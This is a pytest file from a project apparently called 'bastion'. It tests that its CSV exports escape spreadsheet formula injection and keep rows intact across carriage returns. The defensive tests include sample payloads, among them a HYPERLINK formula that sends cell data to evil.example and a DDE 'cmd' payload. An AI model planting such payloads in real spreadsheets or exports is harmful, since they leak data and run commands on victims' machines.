"""Security finding 11 (brief item 6): CSV exports neutralise formulas (= + - @, tab, CR at the start of a text
cell) and a carriage return inside a cell cannot break the row: sites export, patrol CSV, audit CSV."""

from __future__ import annotations

import csv
import io

from fastapi import FastAPI
from fastapi.testclient import TestClient

from bastion.access import audit
from bastion.kernel.csvsafe import cell
from bastion.patrol import render
from bastion.patrol.service import StopRow
from bastion.patrol.service import TeamSchedule

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_cell_neutralises_formulas_but_not_numbers() -> None:
    for bad in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert cell(bad) == "'" + bad
    for fine in ("Stade Louis-II", "-7.4213", "+33", "1e-3", 42, -3.5, None, ""):
        assert cell(fine) == fine


def test_sites_export_neutralises_notes_and_keeps_rows_whole(client: TestClient) -> None:
    sid = client.get("/api/v1/sites", params={"q": "louis-ii"}).json()["items"][0]["id"]
    notes = f"{FORMULA}\rsecond line\r\n,third"
    assert client.patch(f"/api/v1/sites/{sid}", json={"notes": notes}).status_code == 200
    text = client.get("/api/v1/sites/export", params={"format": "csv"}).text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    mine = [r for r in rows if r["id"] == str(sid)]
    assert len(mine) == 1 and mine[0]["notes"] == "'" + notes  # one row, the note whole, shown as text
    assert all(r["wkt"] for r in rows)  # no row split by the carriage return
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@"]


def test_patrol_csv_neutralises_site_names() -> None:
    stop = StopRow(day=1, team=1, seq=1, site_id=7, site_name=FORMULA, name=FORMULA, kind="stadium",
                   category="venue", lon=-7.4, lat=43.7, slot=0, arrival="08:00", departure="08:10", arrival_s=0.0,
                   departure_s=600.0, extra=False)
    team = TeamSchedule(day=1, team=1, label="Team 1", stops=(stop,), path=[])
    row = list(csv.DictReader(io.StringIO(render.to_csv(1, [team]), newline="")))[0]
    assert row["site_name"] == "'" + FORMULA and row["lon"] == "-7.400000"


def test_audit_csv_neutralises_formulas(app: FastAPI) -> None:
    sf = app.state.session_factory
    audit.record_now(sf, actor=FORMULA, action="@cmd", object_type="-x", object_id="+1+1", client="=1+1")
    with sf() as s:
        rows = list(csv.DictReader(io.StringIO(audit.export(s, "csv"), newline="")))
    last = rows[-1]
    assert (last["actor"], last["action"], last["object_type"], last["object_id"], last["client"]) == (
        "'" + FORMULA, "'@cmd", "'-x", "'+1+1", "'=1+1")
